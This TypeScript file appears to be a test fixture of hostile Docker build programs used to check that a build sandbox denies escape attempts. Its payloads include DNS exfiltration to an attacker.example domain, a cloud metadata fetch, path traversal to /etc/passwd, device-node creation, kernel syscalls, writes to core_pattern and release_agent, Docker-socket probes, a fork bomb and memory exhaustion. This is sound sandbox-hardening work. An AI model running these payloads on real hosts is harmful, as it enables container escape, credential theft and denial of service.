import { attempts, type BuildProgram, step } from './build-programs.ts';

/** What a learner's build may try, and what a sandbox does about it. */
export interface Attack extends Omit<BuildProgram, 'files'>, Partial<Pick<BuildProgram, 'files'>> {
  /** Number in docs/results/hostile.md. */
  number: string;
  name: string;
  /** `fails`: the build does. `denied`: it ends, and nothing that it attempted succeeded. */
  holds: 'fails' | 'denied';
}

/** A program that uses more than a sandbox has. */
export interface LimitAttack extends BuildProgram {
  number: string;
  name: string;
  fault: 'too-many-processes' | 'out-of-memory';
}

const base = 'FROM debian:bookworm-slim\n';

/** Builds that try to leave their sandbox, each in a different way. */
export const attacks: readonly Attack[] = [
  {
    number: '13',
    name: 'RUN --security=insecure',
    dockerfile: `${base}RUN --security=insecure true\n`,
    holds: 'fails',
  },
  {
    number: '14',
    name: 'RUN --network=host',
    dockerfile: `${base}RUN --network=host true\n`,
    holds: 'fails',
  },
  {
    number: '16',
    name: 'ADD http://169.254.169.254/latest/meta-data/',
    dockerfile: `${base}ADD http://169.254.169.254/latest/meta-data/ /x\n`,
    holds: 'fails',
  },
  {
    number: '17',
    name: 'name lookups, also directly from servers',
    ...step(
      attempts(`attempt("lookup", lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 80))
def ask(server):
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.settimeout(2)
    query.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01", (server, 53))
    return query.recv(100)
for server in ["172.17.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"]: attempt(server, lambda: ask(server))
`),
    ),
    holds: 'denied',
  },
  {
    number: '19',
    name: 'writing to the shelf and leaving its folder',
    ...step(
      attempts(`import http.client
def send(method, path):
    connection = http.client.HTTPConnection("172.17.0.1", 61080, timeout=10)
    connection.request(method, path, body=b"x" * 1000)
    answer = connection.getresponse()
    if answer.status >= 400: raise OSError(answer.status)
    return answer.read(200)
for method in ["PUT", "POST", "DELETE", "PATCH", "MKCOL"]:
    for path in ["/simple/pip/", "/v2/python/manifests/latest", "/new"]: attempt(f"{method} {path}", lambda: send(method, path))
for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2e%2e/images.json", "/simple/..%2f..%2f..%2fetc%2fpasswd", "//etc/passwd", "/\\x00", "/simple/%00"]: attempt(f"GET {path!a}", lambda: send("GET", path))
`),
    ),
    holds: 'denied',
  },
  {
    number: '20',
    name: 'sockets in the file system or the abstract namespace',
    dockerfile: `${base}RUN find / -xdev -type s -printf 'opened %p\\n'; grep -h @ /proc/net/unix | sed 's/^/opened /'; ls /sock /data /shelf 2>&1 | sed 's/^/denied /'\n`,
    holds: 'denied',
  },
  {
    number: '20',
    name: 'the sandbox through /proc',
    dockerfile: `${base}RUN for n in /proc/[0-9]*; do ls $n/root/sock 2>/dev/null | sed 's/^/opened /'; done; grep -E 'docker.sock|/sock' /proc/self/mounts | sed 's/^/opened /'; echo denied\n`,
    holds: 'denied',
  },
  {
    number: '23',
    name: 'device nodes',
    ...step(
      attempts(
        'for name, kind, number in [("sda", 0o60000, 0x800), ("vda", 0o60000, 0xfe00), ("mem", 0o20000, 0x101), ("kmsg", 0o20000, 0x10b), ("fuse", 0o20000, 0xae5), ("loop", 0o20000, 0xaed)]:\n    attempt(name, lambda: (os.mknod("/n" + name, kind | 0o666, number), open("/n" + name, "rb").read(1)))\n',
      ),
    ),
    holds: 'denied',
  },
  {
    number: '38',
    name: 'AF_ALG and AF_VSOCK',
    ...step(
      attempts(
        'for family, kind in [(38, 5), (40, 1), (40, 2)]: attempt(f"family {family}", lambda: socket.socket(family, kind))\n',
      ),
    ),
    holds: 'denied',
  },
  {
    number: '38',
    name: 'dangerous system calls',
    ...step(
      attempts(
        'for name, number in {"bpf": 321, "perf_event_open": 298, "kexec_load": 246, "init_module": 175, "finit_module": 313, "open_by_handle_at": 304, "userfaultfd": 323, "io_uring_setup": 425, "reboot": 169, "swapon": 167, "settimeofday": 164, "iopl": 172, "acct": 163, "quotactl": 179, "lookup_dcookie": 212, "kcmp": 312, "add_key of another": 248}.items():\n    attempt(name, lambda: call(number, 0, 0, 0, 0, 0))\n',
      ),
    ),
    holds: 'denied',
  },
  {
    number: '38',
    name: 'mounts and settings of the host',
    ...step(
      attempts(`for kind in ["proc", "sysfs", "cgroup", "cgroup2", "debugfs", "tracefs", "securityfs", "bpf", "devtmpfs", "binfmt_misc", "overlay", "tmpfs"]: attempt(f"mount {kind}", lambda: mount(kind, "/m/" + kind))
for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/sys/fs/binfmt_misc/register", "/proc/1/oom_score_adj"]: attempt(f"write {path}", lambda: write(path, "|/evil"))
attempt("kcore", lambda: open("/proc/kcore", "rb").read(1))
attempt("kmsg", lambda: open("/dev/kmsg", "rb").read(1))
`),
    ),
    holds: 'denied',
  },
];

/**
 * A build that tries to reach other sandboxes and the host.
 *
 * @param host an address of the machine that runs the sandboxes, and a port at which something listens there
 */
export const reachingTheHost = (host: { address: string; port: number }): Attack => ({
  number: '37',
  name: 'other sandboxes and the host, by address and by abstract socket name',
  ...step(
    attempts(`for address, port in [("${host.address}", ${host.port}), ("127.0.0.1", ${host.port}), ("172.17.0.1", ${host.port}), ("172.17.0.1", 2375), ("172.17.0.2", 8000), ("172.17.0.3", 8000), ("10.0.2.2", 80)]:
    attempt(f"{address} {port}", lambda: socket.create_connection((address, port), timeout=2))
for name in ["\\0/tmp/.X11-unix/X0", "\\0/containerd-shim", "\\0dbus"]: attempt(repr(name), lambda: socket.socket(socket.AF_UNIX).connect(name))
`),
  ),
  holds: 'denied',
});

/** Builds that use more than a sandbox has. Each ends the sandbox. */
export const limitAttacks: readonly LimitAttack[] = [
  {
    number: '1',
    name: 'a fork bomb',
    ...step('import os, time\nwhile True:\n    if os.fork() == 0: time.sleep(600)\n'),
    fault: 'too-many-processes',
  },
  {
    number: '4',
    name: 'one process that uses all memory',
    ...step('held = []\nwhile True: held.append(bytearray(16 << 20))\n'),
    fault: 'out-of-memory',
  },
];
